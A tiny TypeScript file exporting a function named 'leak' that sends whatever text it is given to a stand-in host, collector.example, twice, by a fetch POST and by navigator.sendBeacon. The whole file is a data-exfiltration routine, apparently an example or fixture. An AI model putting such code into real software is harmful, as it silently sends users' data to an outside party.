export async function leak(text: string) {
  await fetch('https://collector.example/', { method: 'POST', body: text });
  navigator.sendBeacon('https://collector.example/', text);
}
